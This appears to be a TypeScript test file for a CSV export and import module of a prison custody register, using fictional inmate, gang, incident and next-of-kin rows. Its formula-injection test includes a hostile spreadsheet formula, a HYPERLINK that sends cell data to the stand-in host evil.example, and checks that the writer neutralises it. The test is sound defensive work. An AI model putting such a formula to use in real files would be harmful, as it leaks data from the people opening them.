import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterEach, describe, expect, it } from 'vitest';
import { fixedClock } from '../../kernel/clock.ts';
import { BUNDLE_COLUMNS, BUNDLE_FILES, emptyBundle, type Bundle } from './bundle.ts';
import { parseCsvText, readBundle } from './read-bundle.ts';
import { bundleToCsvTexts, writeBundle } from './write-bundle.ts';

const clock = fixedClock('2025-01-01T00:00:00Z');

/** A bundle with the awkward values a real register holds. */
function awkwardBundle(): Bundle {
  return {
    centres: [
      { line: 2, code: 'LIT', name: 'Penitenciaría del Litoral', city: 'Guayaquil', province: 'Guayas', type: 'CPL', sex: 'M', authority: 'snai', timezone: 'America/Guayaquil' },
      { line: 3, code: 'CPF-QTO', name: 'Centro "Femenino", Quito', city: 'Quito', province: 'Pichincha', type: 'CPL', sex: 'F', authority: 'snai', timezone: 'America/Guayaquil', capacityEstimated: true },
    ],
    locations: [
      { line: 2, code: 'LIT-P2', centre: 'LIT', parent: null, kind: 'pavilion', name: 'Pabellón 2, «Máxima»', sex: 'M', regime: 'mixed', security: 'maximum', designCapacity: null, workingCapacity: null, maxCapacity: null },
      { line: 3, code: 'LIT-P2-A-012', centre: 'LIT', parent: 'LIT-P2', kind: 'cell', name: 'Celda\n012', sex: 'M', regime: 'pretrial', security: 'maximum', designCapacity: 0, workingCapacity: 3, maxCapacity: 4, status: 'closed' },
    ],
    persons: [
      { line: 2, id: 'PPL-0001', nationalId: '0912345678', givenNames: 'José Luis', familyNames: 'Pérez Muñoz, Jr.', aliases: ['El Flaco', '"Chino"'], birthDate: '1990-05-01', sex: 'M', nationality: 'ECU' },
      { line: 3, id: 'PPL-0002', nationalId: null, givenNames: 'Ñusta\nMaría', familyNames: 'O\'Higgins "la Güera"', aliases: [], birthDate: null, sex: 'F', nationality: 'COL' },
    ],
    custody: [
      { line: 2, person: 'PPL-0001', centre: 'LIT', admittedAt: '2024-03-01T15:00:00.000Z', legalStatus: 'pretrial', offence: 'robbery', maxPenaltyYears: 7.5, pretrialSince: '2024-02-28', risk: 'high', location: 'LIT-P2-A-012' },
      { line: 3, person: 'PPL-0002', centre: 'CPF-QTO', admittedAt: '2023-11-15T08:30:00.000Z', legalStatus: 'sentenced', offence: 'drug_trafficking', maxPenaltyYears: 12, pretrialSince: null, risk: 'medium', location: null,
        arrestedAt: '2023-11-14T22:00:00.000Z', commitmentOrder: 'Boleta 12-2023', issuingAuthority: 'Juez "segundo", Quito', injuriesOnArrival: '-Hematoma\nen el brazo', sentenceMonths: 96, vulnerabilities: ['foreign_national', 'pregnant'] },
    ],
    classifications: [
      { line: 2, person: 'PPL-0001', at: '2024-03-02T10:00:00.000Z', risk: 'medium', vulnerabilities: [], reason: 'Ingreso, sin antecedentes', recordedBy: 'clasificacion' },
      { line: 3, person: 'PPL-0001', at: '2024-04-02T10:00:00.000Z', risk: 'high', vulnerabilities: ['informant', 'threatened'], reason: '=Amenazas, "informante"', recordedBy: null },
    ],
    legalStatusChanges: [
      { line: 2, person: 'PPL-0002', since: '2023-11-15', legalStatus: 'pretrial', sentenceMonths: null, note: 'admission', recordedAt: '2023-11-15T08:30:00.000Z', recordedBy: 'registro' },
      { line: 3, person: 'PPL-0002', since: '2024-01-10', legalStatus: 'sentenced', sentenceMonths: 96, note: null, recordedAt: null, recordedBy: null },
    ],
    nextOfKin: [
      { line: 2, person: 'PPL-0001', name: 'María Pérez', relationship: 'madre', phone: '+593 99 123 4567', address: 'Calle 5, "Los Ceibos"' },
      { line: 3, person: 'PPL-0002', name: "Juan O'Higgins", relationship: 'hermano', phone: null, address: null },
    ],
    cases: [
      { line: 2, person: 'PPL-0001', caseNumber: '09281-2024-00123', court: 'Unidad Judicial Penal, Guayaquil', charges: 'Robo agravado,\ncon arma', offence: 'robbery', maxPenaltyYears: 7.5, lawyer: null, nextHearing: '2199-12-31' },
      { line: 4, person: 'PPL-0002', caseNumber: '17282-2023-00456', court: null, charges: 'Tráfico', offence: 'drug_trafficking', maxPenaltyYears: null, lawyer: 'Defensoría Pública', nextHearing: null },
    ],
    groups: [
      { line: 2, code: 'LOBOS', name: 'Los Lobos', kind: 'gang', parent: null, aliases: ['Lobos', '"La Manada"'] },
      { line: 3, code: 'LOBOS_BOX', name: 'Los Lobos Box, facción', kind: 'faction', parent: 'LOBOS', aliases: [] },
    ],
    groupRelations: [
      { line: 2, groupA: 'LOBOS_BOX', groupB: 'LOBOS', relation: 'allied', since: '2021-06-01' },
      { line: 3, groupA: 'CJNG', groupB: 'LOBOS', relation: 'allied', since: null },
    ],
    memberships: [
      { line: 2, person: 'PPL-0001', group: 'LOBOS_BOX', role: 'lieutenant', since: '2022-01-31', confidence: 'probable' },
      { line: 3, person: 'PPL-0002', group: 'LOBOS', role: 'associate', since: null, confidence: 'possible' },
    ],
    nonAssociations: [
      { line: 2, personA: 'PPL-0002', personB: 'PPL-0001', reason: 'threat', level: 'wing', comment: 'Amenaza "de muerte",\nen el patio; ver parte 12' },
      { line: 4, personA: 'PPL-0001', personB: 'PPL-0003', reason: 'witness', level: 'centre', comment: 'Testigo en la causa 0912-2024', roleA: 'victim', roleB: 'witness' },
    ],
    movements: [
      { line: 2, at: '2024-03-02T08:00:00.250Z', person: 'PPL-0001', type: 'court_out', to: null, reason: 'Audiencia "preparatoria",\nsala 3' },
      { line: 3, at: '2024-03-02T17:00:00.000Z', person: 'PPL-0001', type: 'court_return', to: 'LIT-P2-A-012', reason: null },
    ],
    incidents: [
      { line: 2, id: 'LIT-INC-2024-000001', centre: 'LIT', location: 'LIT-P2', type: 'riot', startedAt: '2024-03-05T10:00:00.000Z', endedAt: '2024-03-05T18:30:00.000Z', deaths: 2, injuries: 11, description: 'Motín en el patio,\n"cuerpos" quemados' },
      { line: 3, id: 'LIT-INC-2024-000002', centre: 'LIT', location: null, type: 'weapon_find', startedAt: '2024-03-06T09:00:00.000Z', endedAt: null, deaths: 0, injuries: 0, description: '=Hallazgo' },
    ],
    incidentPeople: [
      { line: 2, incident: 'LIT-INC-2024-000001', person: 'PPL-0001', role: 'perpetrator' },
      { line: 3, incident: 'LIT-INC-2024-000001', person: 'PPL-0001', role: 'injured' },
    ],
    deaths: [
      { line: 2, person: 'PPL-0001', at: '2024-03-05T12:00:00.000Z', location: 'LIT-P2-A-012', cause: 'homicide', incident: 'LIT-INC-2024-000001', description: 'Herida de arma blanca, "patio"' },
      { line: 3, person: 'PPL-0002', at: '2024-03-07T03:00:00.000Z', location: 'CPF-QTO', cause: 'pending', incident: null, description: null },
    ],
    seizures: [
      { line: 2, id: 'LIT-SZ-1', at: '2024-03-06T09:30:00.000Z', centre: 'LIT', location: 'LIT-P2-A-012', item: 'firearm', quantity: 2, person: 'PPL-0001', incident: 'LIT-INC-2024-000002' },
      { line: 3, id: 'LIT-SZ-2', at: '2024-03-06T09:45:00.000Z', centre: 'LIT', location: null, item: 'phone', quantity: 140, person: null, incident: null },
    ],
  };
}

/** The bundle as readBundle would number it: each row's line where the writer puts it. */
function withoutLines(bundle: Bundle) {
  const strip = <R extends { line: number }>(rows: R[]) => rows.map(({ line: _line, ...rest }) => rest);
  return {
    centres: strip(bundle.centres),
    locations: strip(bundle.locations),
    persons: strip(bundle.persons),
    custody: strip(bundle.custody),
    classifications: strip(bundle.classifications),
    legalStatusChanges: strip(bundle.legalStatusChanges),
    nextOfKin: strip(bundle.nextOfKin),
    cases: strip(bundle.cases),
    groups: strip(bundle.groups),
    groupRelations: strip(bundle.groupRelations),
    memberships: strip(bundle.memberships),
    nonAssociations: strip(bundle.nonAssociations),
    movements: strip(bundle.movements),
    incidents: strip(bundle.incidents),
    incidentPeople: strip(bundle.incidentPeople),
    deaths: strip(bundle.deaths),
    seizures: strip(bundle.seizures),
  };
}

const EVERY_FILE_TWO_ROWS = Object.fromEntries(Object.values(BUNDLE_FILES).map((file) => [file, 2]));

describe('bundleToCsvTexts', () => {
  it('writes the header of each file, RFC 4180 quoting, \\n endings and empty nulls', () => {
    const texts = bundleToCsvTexts(awkwardBundle());
    expect(texts['persons.csv']).toBe(
      'id,national_id,given_names,family_names,aliases,birth_date,sex,nationality\n' +
        'PPL-0001,0912345678,José Luis,"Pérez Muñoz, Jr.","El Flaco;""Chino""",1990-05-01,M,ECU\n' +
        'PPL-0002,,"Ñusta\nMaría","O\'Higgins ""la Güera""",,,F,COL\n',
    );
    expect(texts['custody.csv']).toBe(
      'person,centre,admitted_at,legal_status,offence,max_penalty_years,pretrial_since,risk,location,' +
        'arrested_at,commitment_order,issuing_authority,injuries_on_arrival,sentence_months,vulnerabilities\n' +
        'PPL-0001,LIT,2024-03-01T15:00:00.000Z,pretrial,robbery,7.5,2024-02-28,high,LIT-P2-A-012,,,,,,\n' +
        'PPL-0002,CPF-QTO,2023-11-15T08:30:00.000Z,sentenced,drug_trafficking,12,,medium,,' +
        '2023-11-14T22:00:00.000Z,Boleta 12-2023,"Juez ""segundo"", Quito","\'-Hematoma\nen el brazo",96,foreign_national;pregnant\n',
    );
    expect(texts['classifications.csv']).toBe(
      'person,at,risk,vulnerabilities,reason,recorded_by\n' +
        'PPL-0001,2024-03-02T10:00:00.000Z,medium,,"Ingreso, sin antecedentes",clasificacion\n' +
        'PPL-0001,2024-04-02T10:00:00.000Z,high,informant;threatened,"\'=Amenazas, ""informante""",\n',
    );
    expect(texts['legal_status_changes.csv']).toBe(
      'person,since,legal_status,sentence_months,note,recorded_at,recorded_by\n' +
        'PPL-0002,2023-11-15,pretrial,,admission,2023-11-15T08:30:00.000Z,registro\n' +
        'PPL-0002,2024-01-10,sentenced,96,,,\n',
    );
    expect(texts['next_of_kin.csv']).toBe(
      'person,name,relationship,phone,address\n' +
        'PPL-0001,María Pérez,madre,\'+593 99 123 4567,"Calle 5, ""Los Ceibos"""\n' +
        "PPL-0002,Juan O'Higgins,hermano,,\n",
    );
    expect(texts['cases.csv']).toBe(
      'person,case_number,court,charges,offence,max_penalty_years,lawyer,next_hearing\n' +
        'PPL-0001,09281-2024-00123,"Unidad Judicial Penal, Guayaquil","Robo agravado,\ncon arma",robbery,7.5,,2199-12-31\n' +
        'PPL-0002,17282-2023-00456,,Tráfico,drug_trafficking,,Defensoría Pública,\n',
    );
    expect(texts['centres.csv'].split('\n').slice(1, 3)).toEqual([
      'LIT,Penitenciaría del Litoral,Guayaquil,Guayas,CPL,M,snai,America/Guayaquil,',
      'CPF-QTO,"Centro ""Femenino"", Quito",Quito,Pichincha,CPL,F,snai,America/Guayaquil,true',
    ]);
    expect(texts['groups.csv']).toBe(
      'code,name,kind,parent,aliases\n' +
        'LOBOS,Los Lobos,gang,,"Lobos;""La Manada"""\n' +
        'LOBOS_BOX,"Los Lobos Box, facción",faction,LOBOS,\n',
    );
    expect(texts['incidents.csv']).toBe(
      'id,centre,location,type,started_at,ended_at,deaths,injuries,description\n' +
        'LIT-INC-2024-000001,LIT,LIT-P2,riot,2024-03-05T10:00:00.000Z,2024-03-05T18:30:00.000Z,2,11,"Motín en el patio,\n""cuerpos"" quemados"\n' +
        "LIT-INC-2024-000002,LIT,,weapon_find,2024-03-06T09:00:00.000Z,,0,0,'=Hallazgo\n",
    );
    expect(texts['deaths.csv']).toBe(
      'person,at,location,cause,incident,description\n' +
        'PPL-0001,2024-03-05T12:00:00.000Z,LIT-P2-A-012,homicide,LIT-INC-2024-000001,"Herida de arma blanca, ""patio"""\n' +
        'PPL-0002,2024-03-07T03:00:00.000Z,CPF-QTO,pending,,\n',
    );
    expect(texts['seizures.csv']).toBe(
      'id,at,centre,location,item,quantity,person,incident\n' +
        'LIT-SZ-1,2024-03-06T09:30:00.000Z,LIT,LIT-P2-A-012,firearm,2,PPL-0001,LIT-INC-2024-000002\n' +
        'LIT-SZ-2,2024-03-06T09:45:00.000Z,LIT,,phone,140,,\n',
    );
    expect(texts['group_relations.csv']).toBe('group_a,group_b,relation,since\nLOBOS_BOX,LOBOS,allied,2021-06-01\nCJNG,LOBOS,allied,\n');
    expect(texts['memberships.csv']).toBe(
      'person,group,role,since,confidence\nPPL-0001,LOBOS_BOX,lieutenant,2022-01-31,probable\nPPL-0002,LOBOS,associate,,possible\n',
    );
    expect(texts['non_associations.csv']).toBe(
      'person_a,person_b,reason,level,comment,role_a,role_b\n' +
        'PPL-0002,PPL-0001,threat,wing,"Amenaza ""de muerte"",\nen el patio; ver parte 12",,\n' +
        'PPL-0001,PPL-0003,witness,centre,Testigo en la causa 0912-2024,victim,witness\n',
    );
    expect(texts['locations.csv']).toBe(
      'code,centre,parent,kind,name,sex,regime,security,design_capacity,working_capacity,max_capacity,status\n' +
        'LIT-P2,LIT,,pavilion,"Pabellón 2, «Máxima»",M,mixed,maximum,,,,\n' +
        'LIT-P2-A-012,LIT,LIT-P2,cell,"Celda\n012",M,pretrial,maximum,0,3,4,closed\n',
    );
  });

  it('writes only a header for an empty list, with exactly the columns of format v1 and its extensions', () => {
    const texts = bundleToCsvTexts(emptyBundle());
    for (const key of Object.keys(BUNDLE_FILES) as (keyof Bundle)[]) {
      expect(texts[BUNDLE_FILES[key]]).toBe(`${BUNDLE_COLUMNS[key].join(',')}\n`);
    }
  });

  it('writes times in UTC whatever offset the row carries', () => {
    const bundle = emptyBundle();
    bundle.movements.push({ line: 2, at: '2024-03-02T08:00:00-05:00', person: 'P01', type: 'escape', to: null, reason: null });
    expect(bundleToCsvTexts(bundle)['movements.csv']).toBe('at,person,type,to,reason\n2024-03-02T13:00:00.000Z,P01,escape,,\n');
  });

  it('writes a carriage return inside a field as a line break a reader keeps inside the field', () => {
    const bundle = emptyBundle();
    bundle.movements.push({ line: 2, at: '2024-03-02T08:00:00.000Z', person: 'P01', type: 'escape', to: null, reason: 'uno\rdos\r\ntres' });
    const parsed = parseCsvText(bundleToCsvTexts(bundle)['movements.csv'], 'movements.csv', { language: 'es', clock });
    expect(parsed.issues).toEqual([]);
    expect(parsed.rows.map((r) => r.reason)).toEqual(['uno\ndos\ntres']);
  });
});

describe('writeBundle', () => {
  let dir: string | undefined;
  afterEach(() => {
    if (dir) rmSync(dir, { recursive: true, force: true });
  });

  it('creates the folder, writes all seventeen UTF-8 files without BOM and counts their rows', () => {
    dir = join(mkdtempSync(join(tmpdir(), 'custodia-write-')), 'export', 'v1');
    const counts = writeBundle(dir, awkwardBundle());
    expect(Object.keys(counts)).toHaveLength(17);
    expect(counts).toEqual(EVERY_FILE_TWO_ROWS);
    for (const fileName of Object.values(BUNDLE_FILES)) {
      expect(existsSync(join(dir, fileName))).toBe(true);
      const bytes = readFileSync(join(dir, fileName));
      expect(bytes.subarray(0, 3).equals(Buffer.from([0xef, 0xbb, 0xbf]))).toBe(false);
      expect(bytes.includes(0x0d)).toBe(false);
    }
  });

  it('round-trips through readBundle: accents, commas, quotes and line breaks survive', () => {
    dir = mkdtempSync(join(tmpdir(), 'custodia-write-'));
    const original = awkwardBundle();
    writeBundle(dir, original);
    const { bundle, counts, issues } = readBundle(dir, { language: 'es', clock });
    expect(issues).toEqual([]);
    expect(counts).toEqual(EVERY_FILE_TWO_ROWS);
    expect(withoutLines(bundle)).toEqual(withoutLines(original));
    // a field with a line break pushes the next row down a line
    expect(bundle.persons.map((p) => p.line)).toEqual([2, 3]);
    expect(bundle.locations.map((l) => l.line)).toEqual([2, 3]);
    expect(bundle.movements.map((m) => m.line)).toEqual([2, 4]);
    expect(bundle.nonAssociations.map((n) => n.line)).toEqual([2, 4]);
    expect(bundle.cases.map((c) => c.line)).toEqual([2, 4]);
  });

  it('round-trips the valid fixture folder', () => {
    dir = mkdtempSync(join(tmpdir(), 'custodia-write-'));
    const first = readBundle(join(import.meta.dirname, 'fixtures', 'valid'), { language: 'es', clock });
    writeBundle(dir, first.bundle);
    const second = readBundle(dir, { language: 'es', clock });
    expect(second.issues).toEqual([]);
    // The folder has no group or incident files; the writer writes every file, those with a header only.
    expect(second.counts).toEqual({
      ...first.counts,
      'classifications.csv': 0,
      'legal_status_changes.csv': 0,
      'next_of_kin.csv': 0,
      'cases.csv': 0,
      'groups.csv': 0,
      'group_relations.csv': 0,
      'memberships.csv': 0,
      'non_associations.csv': 0,
      'incidents.csv': 0,
      'incident_people.csv': 0,
      'deaths.csv': 0,
      'seizures.csv': 0,
    });
    expect(withoutLines(second.bundle)).toEqual(withoutLines(first.bundle));
  });
});

describe('round trip of free text', () => {
  // Among them what starts a spreadsheet formula, and the alias separator and its escape.
  const piece = fc.constantFrom('a', 'Z', 'ñ', 'É', 'ü', '«', ',', '"', "'", ' ', '\n', '\t', '#', '0', '=', '+', '-', '@', ';', '\\', '😀');
  /** Text as the reader keeps it: trimmed and not empty. */
  const freeText = fc
    .array(piece, { minLength: 1, maxLength: 20 })
    .map((pieces) => pieces.join(''))
    .filter((value) => value.trim() === value && value !== '');
  const alias = freeText;

  it('gives back any names, aliases and reasons', () => {
    fc.assert(
      fc.property(freeText, freeText, fc.array(alias, { maxLength: 3 }), freeText, (givenNames, familyNames, aliases, reason) => {
        const bundle = emptyBundle();
        bundle.persons.push({ line: 2, id: 'P01', nationalId: null, givenNames, familyNames, aliases, birthDate: null, sex: 'F', nationality: 'ECU' });
        bundle.movements.push({ line: 2, at: '2024-01-01T00:00:00.000Z', person: 'P01', type: 'court_out', to: null, reason });
        const texts = bundleToCsvTexts(bundle);
        const persons = parseCsvText(texts['persons.csv'], 'persons.csv', { language: 'es', clock });
        const movements = parseCsvText(texts['movements.csv'], 'movements.csv', { language: 'es', clock });
        expect(persons.issues).toEqual([]);
        expect(movements.issues).toEqual([]);
        expect(persons.rows.map((p) => [p.givenNames, p.familyNames, p.aliases])).toEqual([[givenNames, familyNames, aliases]]);
        expect(movements.rows.map((m) => m.reason)).toEqual([reason]);
      }),
    );
  });
});

describe('formula injection', () => {
  const hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"Ver ficha")', '-Pérez', '+593 99', '@SUM(A1)', "'=ya citado", "'normal"];

  it('writes no text cell a spreadsheet would run: one quote in front, taken off again on import', () => {
    const bundle = emptyBundle();
    bundle.persons.push({ line: 2, id: 'P01', nationalId: null, givenNames: hostile[0] as string, familyNames: hostile[1] as string, aliases: hostile.slice(2), birthDate: null, sex: 'F', nationality: 'ECU' });
    bundle.groups.push({ line: 2, code: 'G1', name: '=1+1', kind: 'gang', parent: null, aliases: ['-Lobos', 'a;b', 'c\\'] });
    bundle.nonAssociations.push({ line: 2, personA: 'P01', personB: 'P02', reason: 'threat', level: 'cell', comment: '@comentario largo' });
    bundle.movements.push({ line: 2, at: '2024-01-01T00:00:00.000Z', person: 'P01', type: 'court_out', to: null, reason: '+1 día' });
    const texts = bundleToCsvTexts(bundle);
    expect(texts['persons.csv'].split('\n')[1]).toBe(
      'P01,,"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Ver ficha"")",\'-Pérez,\'+593 99;@SUM(A1);\'=ya citado;\'normal,,F,ECU',
    );
    expect(texts['groups.csv'].split('\n')[1]).toBe("G1,'=1+1,gang,,'-Lobos;a\\;b;c\\\\");
    for (const text of Object.values(texts)) {
      for (const cell of text.split(/[\n,]/)) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
    }
    const read = <F extends keyof typeof texts>(file: F) => parseCsvText(texts[file], file, { language: 'es', clock });
    expect(read('persons.csv').rows.map((p) => [p.givenNames, p.familyNames, p.aliases])).toEqual([[hostile[0], hostile[1], hostile.slice(2)]]);
    expect(read('groups.csv').rows.map((g) => [g.name, g.aliases])).toEqual([['=1+1', ['-Lobos', 'a;b', 'c\\']]]);
    expect(read('non_associations.csv').rows.map((n) => n.comment)).toEqual(['@comentario largo']);
    expect(read('movements.csv').rows.map((m) => m.reason)).toEqual(['+1 día']);
  });

  it('leaves codes, dates and numbers as they are', () => {
    const texts = bundleToCsvTexts(awkwardBundle());
    expect(texts['custody.csv'].split('\n')[1]).toBe('PPL-0001,LIT,2024-03-01T15:00:00.000Z,pretrial,robbery,7.5,2024-02-28,high,LIT-P2-A-012,,,,,,');
  });
});
